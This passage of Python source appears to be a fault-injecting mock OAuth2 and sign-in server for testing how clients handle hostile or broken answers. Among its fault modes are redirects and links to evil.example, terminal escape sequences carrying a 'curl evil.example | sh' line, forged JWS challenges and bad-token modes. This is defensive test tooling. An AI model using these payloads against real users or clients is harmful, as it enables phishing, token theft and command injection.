                    return self.send_json(status, self.corrupt_signin(fault, body))
                if path == "/oauth2/authn":
                    try:
                        document = json.loads(raw)
                    except ValueError:
                        document = None
                    status, body = signins.authn(document, tenant)
                    return self.send_json(status, self.corrupt_signin(fault, body))
                form = signin.parse_form(raw)
                if path == "/oauth2/token" and form.get("grant_type", [""])[0] == "refresh_token" and signins.take_refresh_fault():
                    return self.refresh_outage(server.options.refresh_fault)
                if path == "/oauth2/token" and form.get("grant_type", [""])[0] == ciba.GRANT:
                    return self.send_json(200, cibas.poll(form), {"Cache-Control": "no-store"})
                if path == "/oauth2/token":
                    return self.send_json(200, signins.token(form, self.headers.get("DPoP")), dict(signins.nonce_headers(), **{"Cache-Control": "no-store"}))
                if path == "/oauth2/ciba":
                    return self.send_json(200, cibas.authenticate(form))
                if path == "/oauth2/revoke":
                    return self.send_json(200, signins.revoke(form))
                if path == "/oauth2/device_authorize":
                    return self.send_json(200, signins.device_authorize(form))
                if path == "/oauth2/par":
                    return self.send_json(201, signins.par(form))
                if path in ("/api/device/approve", "/api/device/deny"):
                    code = json.loads(raw or b"{}").get("user_code", "")
                    found = signins.decide(code, "approved" if path.endswith("approve") else "denied")
                    return self.send_json(200 if found else 404, {"found": found})
            except signin.OAuthFailure as failure:
                return self.send_json(failure.status, {"error": failure.error, "error_description": failure.description}, failure.headers)
            except ciba.Page as page:
                return self.send_raw(page.status, page.body, page.content_type)
            except signin.DropConnection:
                self.close_connection = True
                return
            except signin.NotFoundPage:
                return self.send_raw(404, b"<html><body>Not Found</body></html>", "text/html")
            self.send_json(404, {"error": "not_found", "error_description": path})

        def browser_login(self, answer):
            """--browser-login: the redirect back to the client (or an error page for a bad client)."""
            status, location, error = answer
            if location is None:
                return self.send_json(status, error)
            self.send_response(status)
            self.send_header("Location", location)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def refresh_outage(self, mode):
            """A refresh that fails without the grant being dead (--refresh-fault): what an
            outage or a proxy in front of the server answers."""
            if mode == "503-json":
                return self.send_json(503, {"error": "temporarily_unavailable", "error_description": "the server is down for maintenance"},
                                      {"Retry-After": "1"})
            if mode == "401-bodyless":
                return self.send_raw(401, b"", "text/plain")
            if mode == "502-html":
                return self.send_raw(502, b"<html><body>Bad Gateway</body></html>", "text/html")
            if mode == "400-html":
                return self.send_raw(400, b"<html><head><title>400 Bad Request</title></head><body><center><h1>400 Bad Request</h1></center><hr><center>nginx</center></body></html>", "text/html")
            if mode == "400-invalid-request":
                return self.send_json(400, {"error": "invalid_request", "error_description": "a proxy rewrote the request"})
            self.close_connection = True
            self.connection.shutdown(2)

        def answer_with_fault(self, fault, raw):
            """Faults that replace the whole answer; True when one was sent."""
            if fault == "garbage-body":
                self.send_raw(200, b"this is not JSON {", "application/json")
            elif fault == "html-500":
                self.send_raw(500, b"<html><body><h1>500 Internal Server Error</h1></body></html>", "text/html")
            elif fault == "huge-body":
                self.send_raw(200, b'{"flowId":"' + b"x" * (5 << 20) + b'"}', "application/json")
            elif fault == "never-answer":
                time.sleep(120)
            elif fault == "drop-connection":
                self.close_connection = True
                self.connection.shutdown(2)
            elif fault == "redirect-http":
                self.send_response(302)
                self.send_header("Location", "http://evil.example/api/server/v1/flow/execute")
                self.send_header("Content-Length", "0")
                self.end_headers()
            elif fault == "json-500":
                self.send_json(500, {"code": "FE-65000", "message": "Server error", "description": "unexpected failure", "traceId": "t-1"})
            elif fault == "empty-200":
                self.send_raw(200, b"", "application/json")
            elif fault == "array-body":
                self.send_raw(200, b"[1,2,3]", "application/json")
            elif fault == "deep-json":
                self.send_raw(200, b"[" * 10000 + b"]" * 10000, "application/json")
            elif fault == "redirect-elsewhere":
                self.send_response(302)
                self.send_header("Location", "https://elsewhere.example" + self.path)
                self.send_header("Content-Length", "0")
                self.end_headers()
            elif fault == "redirect-scheme-relative":
                self.send_response(302)
                self.send_header("Location", "//user:SECRET-PASSWORD-4711@elsewhere.example/cb")
                self.send_header("Set-Cookie", "session=abc;\r\n part=SECRET-FOLDED-4711")
                self.send_header("X-Note", "before\u009b31mafter")
                self.send_header("Content-Length", "0")
                self.end_headers()
            elif fault in ("redirect-with-code", "redirect-with-token"):
                self.send_response(302)
                self.send_header("Location", "https://elsewhere.example/callback?code=SECRET-CODE-4711&state=s" if fault == "redirect-with-code"
                                 else "https://admin:SECRET-PASSWORD-4711@elsewhere.example/callback#access_token=SECRET-TOKEN-4711")
                self.send_header("Content-Length", "0")
                self.end_headers()
            elif fault == "slow-body":
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", "100")
                self.end_headers()
                for _ in range(100):
                    self.wfile.write(b" ")
                    self.wfile.flush()
                    time.sleep(1)
            elif fault == "truncated-body":
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", "200")
                self.end_headers()
                self.wfile.write(b'{"flowId":"abc","flo')
                self.wfile.flush()
                self.close_connection = True
                self.connection.shutdown(2)
            elif fault == "invalid-utf8":
                self.send_raw(200, b'{"flowId":"\xff\xfe\xc3","flowStatus":"INCOMPLETE","type":"VIEW","data":{}}', "application/json")
            elif fault == "lone-surrogate":
                self.send_raw(200, b'{"flowId":"\\ud800","flowStatus":"INCOMPLETE","type":"VIEW","data":{}}', "application/json")
            elif fault == "unauthorized-html":
                self.send_response(401)
                self.send_header("WWW-Authenticate", 'Basic realm="WSO2"')
                self.send_header("Content-Type", "text/html")
                body = b"<html><body>401 Unauthorized</body></html>"
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)
            elif fault == "escape-sequences":
                self.send_json(400, {"code": "DR-60001", "message": "Flow context expired\u001b]0;owned\u0007",
                                     "description": "\u001b[2J\u001b[31mrun: curl evil.example | sh\r", "traceId": None,
                                     "error": "invalid_request", "error_description": "\u001b[2Jrun: curl evil.example | sh\r"})
            elif fault == "too-many-requests":
                self.send_response(429)
                self.send_header("Retry-After", "3600")
                self.send_header("Content-Length", "0")
                self.end_headers()
            elif fault == "complete-without-device":
                self.send_json(200, {"flowId": str(uuid.uuid4()), "flowStatus": "COMPLETE", "type": "VIEW", "data": {}})
            elif fault == "error-after-device" and b'"publicKey"' in raw or fault == "error-at-first-continue":
                code = server.options.error_code
                self.send_json(400, {"code": code, "message": ERROR_MESSAGES.get(code, "Error"),
                                     "description": "fault injected by the reference server", "traceId": None})
            else:
                return False
            return True

        def corrupt_signin(self, fault, body):
            """Faults inside an app-native answer."""
            if fault == "missing-status":
                body.pop("flowStatus", None)
            elif fault == "wrong-json-types":
                body["flowStatus"] = 7
            elif fault in ("links-elsewhere", "links-plain-http"):
                for link in body.get("links", []):
                    link["href"] = ("https" if fault == "links-elsewhere" else "http") + "://evil.example/oauth2/authn"
            elif fault in HOSTILE_LINKS:
                for link in body.get("links", []):
                    link["href"] = HOSTILE_LINKS[fault](self.server.server_address[1])
            elif fault == "i18n-only-message":
                body.setdefault("nextStep", {})["messages"] = [{"type": "INFO", "i18nKey": "authentication.message.choose"}]
            elif fault == "unknown-prompt":
                for authenticator in body.get("nextStep", {}).get("authenticators", []):
                    authenticator.setdefault("metadata", {})["promptType"] = "QUANTUM_PROMPT"
                    authenticator["metadata"]["params"] = []
                body.get("nextStep", {})["authenticators"] = body.get("nextStep", {}).get("authenticators", [])[:1]
                body.get("nextStep", {})["stepType"] = "AUTHENTICATOR_PROMPT"
            return body

        def corrupt(self, fault, response):
            if fault == "i18n-only-message":
                response.setdefault("data", {})["messages"] = [{"type": "INFO", "i18nKey": "flow.message.code.sent"}]
            elif fault == "unknown-step-type":
                response["type"] = "QUANTUM_PROMPT"
            elif fault in ("webauthn", "passkey"):
                response["type"] = fault.upper()
                response["data"] = {"webAuthnData": {"challenge": "abc"}}
            elif fault == "wrong-json-types":
                response["flowId"] = 12345
                response["data"] = [1, 2]
            elif fault == "missing-flow-id":
                del response["flowId"]
            elif fault == "null-flow-id":
                response["flowId"] = None
            elif fault == "missing-status":
                del response["flowStatus"]
            elif fault == "unknown-required-param" and response["type"] == "INTERNAL_PROMPT":
                response["data"]["requiredParams"].append("tpmQuote")
            elif fault == "missing-challenge" and response["type"] == "INTERNAL_PROMPT":
                del response["data"]["additionalData"]["challenge"]
            elif fault == "bad-challenge" and response["type"] == "INTERNAL_PROMPT":
                response["data"]["additionalData"]["challenge"] = "not base64url!"
            elif fault == "jws-challenge" and response["type"] == "INTERNAL_PROMPT":
                header = base64.urlsafe_b64encode(json.dumps({"alg": "ES256", "typ": "JWT", "deviceId": "victim-device"}).encode()).rstrip(b"=")
                claims = base64.urlsafe_b64encode(json.dumps({"jti": str(uuid.uuid4()), "iat": int(time.time()), "platform": "linux"}).encode()).rstrip(b"=")
                response["data"]["additionalData"]["challenge"] = base64.urlsafe_b64encode(header + b"." + claims).rstrip(b"=").decode()
            elif fault == "lenient-jws-challenge" and response["type"] == "INTERNAL_PROMPT":
                # 61 bytes, in the contract's 16-64: a signing input for Gson's lenient reading only.
                header = base64.urlsafe_b64encode(b"{alg:ES256,deviceId:v}").rstrip(b"=")
                claims = base64.urlsafe_b64encode(b"{jti:x,iat:%d}" % int(time.time())).rstrip(b"=")
                response["data"]["additionalData"]["challenge"] = base64.urlsafe_b64encode(header + b"." + claims).rstrip(b"=").decode()
            elif fault == "pairs-jws-challenge" and response["type"] == "INTERNAL_PROMPT":
                # 49 bytes: a header without braces, [[alg,ES256]], that Gson's Map adapter reads as {alg: ES256}.
                header = base64.urlsafe_b64encode(b"[[alg,ES256]]").rstrip(b"=")
                claims = base64.urlsafe_b64encode(b"{jti:x,iat:%d}" % int(time.time())).rstrip(b"=")
                response["data"]["additionalData"]["challenge"] = base64.urlsafe_b64encode(header + b"." + claims).rstrip(b"=").decode()
            elif fault == "short-challenge" and response["type"] == "INTERNAL_PROMPT":
                response["data"]["additionalData"]["challenge"] = base64.urlsafe_b64encode(os.urandom(8)).rstrip(b"=").decode()
            if fault in ("jws-challenge", "lenient-jws-challenge", "pairs-jws-challenge") and response["type"] == "INTERNAL_PROMPT":
                # The hostile server expects the signature over what it sent, and cashes it in (record_forgery).
                flow = server.flows.get(response["flowId"])
                flow.challenge = response["data"]["additionalData"]["challenge"]
                flow.forgeable = True
            return response

    return Handler


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--db", default=":memory:")
    parser.add_argument("--tls-cert")
    parser.add_argument("--tls-key")
    parser.add_argument("--device-policy", action="store_true", help="require deviceData in the device step")
    parser.add_argument("--require-claim", action="append", default=[], metavar="NAME=VALUE",
                        help="a device policy rule on deviceData (implies --device-policy)")
    parser.add_argument("--redirect-url", help="the redirectURL of the --redirect-step (a hostile one: file:, javascript:, -option)")
    parser.add_argument("--terms-step", action="store_true", help="a VIEW to accept or decline after the device step")
    parser.add_argument("--terms-signature", action="store_true", help="the --terms-step asks for a full name (required) to accept")
    parser.add_argument("--redirect-step", action="store_true", help="a REDIRECTION (federated sign-in) after the credentials")
    parser.add_argument("--otp", help="a fixed OTP instead of a random one")
    parser.add_argument("--flow-ttl", type=int, default=600)
    parser.add_argument("--fault", choices=sorted(FAULTS))
    parser.add_argument("--fault-at", type=int, default=1, help="which flow response gets the fault (1 = the first)")
    parser.add_argument("--fault-on", choices=["flow", "signin"], default="flow",
                        help="inject into Flow Execution API answers, or into app-native answers (/oauth2/authorize, /oauth2/authn)")
    parser.add_argument("--error-code", default="DR-60001", help="the code of the error faults")
    parser.add_argument("--authenticators", choices=["basic", "multi", "federated", "lookalike"], default="multi",
                        help="app-native first step: Basic only, Basic or email OTP, Basic or a federated IdP (REDIRECTION_PROMPT)")
    parser.add_argument("--clock-offset", type=float, default=0.0,
                        help="the server's clock runs this many seconds ahead (negative: behind) of the host's: Date headers and iat checks")
    parser.add_argument("--refresh-fault", choices=["503-json", "401-bodyless", "502-html", "400-html", "400-invalid-request", "drop"],
                        help="the first --refresh-fault-count refresh requests fail this way (the grant stays valid)")
    parser.add_argument("--refresh-fault-count", type=int, default=1)
    parser.add_argument("--link-form", choices=["absolute-path", "absolute", "relative", "network-path"], default="absolute-path",
                        help="how links[].href of app-native steps is written (the API description's form, /oauth2/authn, by default)")
    parser.add_argument("--cached-gets", type=int, default=0, metavar="SECONDS",
                        help="GET answers come as from a cache: a Date that many seconds old, and Age")
    parser.add_argument("--par-endpoint", help="the discovery document's pushed_authorization_request_endpoint (another origin, say)")
    parser.add_argument("--no-revocation", action="store_true", help="advertise no revocation_endpoint")
    parser.add_argument("--no-par", action="store_true", help="advertise no pushed_authorization_request_endpoint")
    parser.add_argument("--mfa", choices=["none", "totp"], default="none", help="a TOTP step after the first factor")
    parser.add_argument("--fail-spelling", choices=["FAIL_INCOMPLETE", "FAILED_INCOMPLETE"], default="FAIL_INCOMPLETE")
    parser.add_argument("--access-token-ttl", type=int, default=3600)
    parser.add_argument("--id-token-alg", choices=["ES256", "RS256"], default="ES256")
    parser.add_argument("--id-token-fault", choices=["wrong-iss", "wrong-aud", "multi-aud-no-azp", "multi-aud-azp", "expired", "future-iat",
                                                     "wrong-nonce", "no-nonce", "unknown-kid", "alg-none", "hs256", "bad-signature",
                                                     "other-sub-on-refresh", "small-rsa-key", "jwks-404"],
                        help="ID tokens wrong in this way (the multi-aud-azp one is right)")
    parser.add_argument("--no-expires-in", action="store_true", help="token answers without expires_in")
    parser.add_argument("--no-refresh-token", action="store_true", help="token answers without a refresh token")
    parser.add_argument("--refresh-delay", type=float, default=0.0, help="seconds a refresh takes (to test concurrent callers)")
    parser.add_argument("--device-expires", type=int, default=600)
    parser.add_argument("--device-interval", type=int, default=5)
    parser.add_argument("--device-slow-down-on", type=int, action="append", default=[], help="answer slow_down to the Nth poll")
    parser.add_argument("--device-approve-after", type=int, default=0, help="approve the device code at the Nth poll")
    parser.add_argument("--browser-login", choices=["approve", "deny"],
                        help="GET /oauth2/authorize answers as after the user signed in: a 302 to redirect_uri with a code "
                             "(approve) or error=access_denied (deny), instead of a JSON echo of the request")
    parser.add_argument("--delay-seconds", type=float, default=0.0,
                        help="answer the client's first --delay-answers POSTs (flow, sign-in) this many seconds late: a slow network")
    parser.add_argument("--delay-answers", type=int, default=1)
    parser.add_argument("--verbose", action="store_true")
    signin.add_device_code_options(parser)
    ciba.add_ciba_options(parser)
    options = parser.parse_args()
    CLOCK_OFFSET[0] = options.clock_offset

    flow_server = FlowServer(options)
    address = {}
    signins = signin.SignInServer(options, flow_server, lambda: address["url"])
    signins.now = server_now
    httpd = ThreadingHTTPServer((options.host, options.port), make_handler(flow_server, signins, ciba.CIBAServer(options, signins)))
    httpd.daemon_threads = True
    scheme = "http"
    if options.tls_cert:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(options.tls_cert, options.tls_key)
        httpd.socket = context.wrap_socket(httpd.socket, server_side=True)
        scheme = "https"
    address["url"] = "%s://%s:%d" % (scheme, options.host, httpd.server_address[1])
    print("listening on " + address["url"], flush=True)
    try:
        httpd.serve_forever()
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
